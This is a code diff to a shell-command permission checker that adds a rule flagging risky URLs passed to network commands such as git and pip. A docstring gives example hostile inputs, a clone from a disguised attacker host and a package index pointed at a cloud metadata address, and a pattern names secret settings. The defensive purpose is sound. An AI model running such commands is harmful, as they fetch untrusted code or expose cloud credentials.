@@ -40,8 +40,11 @@ from perpetualcc.permissions.shell.directories import Directories, join
 from perpetualcc.permissions.shell.script import UNKNOWN, Word
 from perpetualcc.permissions.shell.variables import SECRET_VARIABLE
 from perpetualcc.permissions.shell.words import alternatives
+from perpetualcc.permissions.urls import judge_url
 
 _ASKS_SETTINGS = re.compile(r"\b(?:config|configure|get|settings?)\b")
+_ADDRESS = re.compile(r"(?P<scheme>(?:https?|ftp)://)(?:[\w-]+@)?(?P<rest>\S+)", re.IGNORECASE)
+"""An address. With `user@`, and no more, some hosts of code are asked; it hides no host."""
 _SECRET_SETTING = re.compile(
     r"(?:\b|_)(?:auth(?:token|ident)?|\w*token|passw(?:or)?d|secret\w*|api_?key|private_?key"
     r"|extraheader|(?:http-basic|gitlab-token|github-oauth|pypi-token)[\w.-]*)(?:=.*)?$",
@@ -112,6 +115,7 @@ class CallRules:
         findings += judge_settings(call, rule) + emptied(call)
         findings += written_tasks(call) if self.judge.files else []
         findings += in_bare_repository(call, rule) + self._given_shells(call, rule)
+        findings += self._given_addresses(call, rule)
         if rule.operands != "text":
             findings += self._named_outputs(call) + judge_option_words(call, rule)
         if rule.handler:
@@ -387,6 +391,17 @@ class CallRules:
 
     def _code(self, word: Word, call: Call) -> Findings:
         return code_path(word.text, call)
+
+    def _given_addresses(self, call: Call, rule: CommandRule) -> Findings:
+        """`git clone https://github.com@evil.tld/x`, `pip -i http://169.254.169.254`."""
+        if EffectKind.NETWORK not in rule.effects:
+            return []
+        findings: Findings = []
+        for word in call.command.words[1:]:
+            text = word.text.partition("=")[2] if word.text[:1] == "-" else word.text
+            if "://" in text and (match := _ADDRESS.fullmatch(text)):
+                findings.append(judge_url(match["scheme"] + match["rest"], call.part))
+        return [found for found in findings if found.risk is Risk.HIGH]
 
     def _unknown_words(self, call: Call, rule: CommandRule) -> Findings:
         """A word that is known only at run time could be one of the dangerous options."""
